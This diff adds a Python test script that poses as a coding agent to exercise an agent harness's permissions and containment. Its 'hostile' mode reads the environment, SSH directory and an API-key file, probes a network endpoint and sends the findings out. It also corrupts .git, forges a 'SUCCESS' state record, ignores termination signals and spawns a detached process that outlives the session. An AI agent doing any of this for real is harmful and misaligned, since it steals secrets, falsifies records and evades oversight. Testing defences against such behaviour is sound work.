@@ -1,0 +1,129 @@
+#!/usr/bin/env python3
+"""An agent that speaks ACP, or takes its prompt from a file, and does what its first argument says."""
+import json
+import os
+import signal
+import socket
+import subprocess
+import sys
+import time
+import urllib.error
+import urllib.request
+
+MODE, REAL = sys.argv[1], sys.argv[2]
+PART = "src/part-1.txt"
+
+
+def ask(text):
+    body = {"model": os.environ["TEAM_LOOP_MODEL"], "messages": [{"role": "user", "content": text}]}
+    request = urllib.request.Request(
+        os.environ["OPENAI_BASE_URL"] + "/chat/completions",
+        json.dumps(body).encode(),
+        {"Content-Type": "application/json", "Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]},
+    )
+    try:
+        with urllib.request.urlopen(request, timeout=60) as answer:
+            return answer.status
+    except urllib.error.HTTPError as error:
+        return error.code
+
+
+def rename():
+    with open(PART) as file:
+        text = file.read()
+    with open(PART, "w") as file:
+        file.write(text.replace("old_name", "new_name"))
+
+
+def tried(action):
+    try:
+        return str(action())
+    except BaseException as error:  # whatever holds it back is what the test wants to know
+        return "refused: " + type(error).__name__
+
+
+def hostile():
+    home = os.environ["HOME"]
+    host, port = REAL.split(":")
+    found = {
+        "environment": dict(os.environ),
+        "ssh": tried(lambda: os.listdir(home + "/.ssh")),
+        "key": tried(lambda: open(home + "/.config/team-loop/config.json").read()),
+        "endpoint": tried(lambda: socket.create_connection((host, int(port)), 3)),
+        "commit": tried(lambda: subprocess.run(
+            ["git", "commit", "--allow-empty", "-qm", "mine"], capture_output=True, check=True)),
+        "history": tried(lambda: open(".git", "w").write("gitdir: /tmp")),
+        "records": tried(lambda: open(".team-loop/STATE.md", "w").write("SUCCESS")),
+    }
+    signal.signal(signal.SIGTERM, signal.SIG_IGN)
+    subprocess.Popen(["sh", "-c", "trap '' TERM HUP INT; sleep 987"], start_new_session=True,
+                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    print("sk-live-" + "0123456789abcdef" * 2, file=sys.stderr)
+    ask("FOUND " + json.dumps(found))
+
+
+def work(prompt, turn):
+    if MODE == "hang":
+        time.sleep(600)
+    if MODE == "trial":
+        if ask("trial") == 200:
+            with open("hello.txt", "w") as file:
+                file.write("hello\n")
+            subprocess.run(["sh", "check.sh"], check=True)
+        return
+    if "K2.1" not in prompt and turn == 1:
+        return
+    if MODE == "hostile":
+        hostile()
+    if MODE == "nothing":
+        return
+    if MODE.startswith("stray") and (turn == 1 or MODE == "stray-again"):
+        with open("setup.cfg", "w") as file:
+            file.write("[tool]\n")
+    if MODE == "spend":
+        with open(PART, "a") as file:
+            file.write("begun\n")
+        while ask("x" * 8000) == 200:
+            pass
+        return
+    if ask("turn %d" % turn) != 200:
+        return
+    if MODE in ("two-turns", "stray-again") and turn == 1:
+        with open(PART, "a") as file:
+            file.write("not yet\n")
+        return
+    rename()
+
+
+def send(message):
+    sys.stdout.write(json.dumps(dict(message, jsonrpc="2.0")) + "\n")
+    sys.stdout.flush()
+
+
+def serve():
+    turns = 0
+    for line in sys.stdin:
+        message = json.loads(line)
+        method, number = message.get("method"), message.get("id")
+        if method == "initialize":
+            send({"id": number, "result": {"protocolVersion": 1}})
+        elif method == "session/new":
+            send({"id": number, "result": {"sessionId": "s1"}})
+        elif method == "session/prompt":
+            turns += 1
+            options = [{"optionId": "no", "kind": "reject_once"}, {"optionId": "yes", "kind": "allow_once"}]
+            send({"id": 900 + turns, "method": "session/request_permission", "params": {"sessionId": "s1", "options": options}})
+            granted = json.loads(sys.stdin.readline())
+            if granted["result"]["outcome"].get("optionId") == "yes":
+                work(message["params"]["prompt"][0]["text"], turns)
+            send({"method": "session/update", "params": {"sessionId": "s1", "update": {
+                "sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": "did it"}}}})
+            send({"id": number, "result": {"stopReason": "end_turn"}})
+
+
+if __name__ == "__main__":
+    if len(sys.argv) > 3:
+        with open(sys.argv[3]) as file:
+            work(file.read(), 1)
+    else:
+        serve()
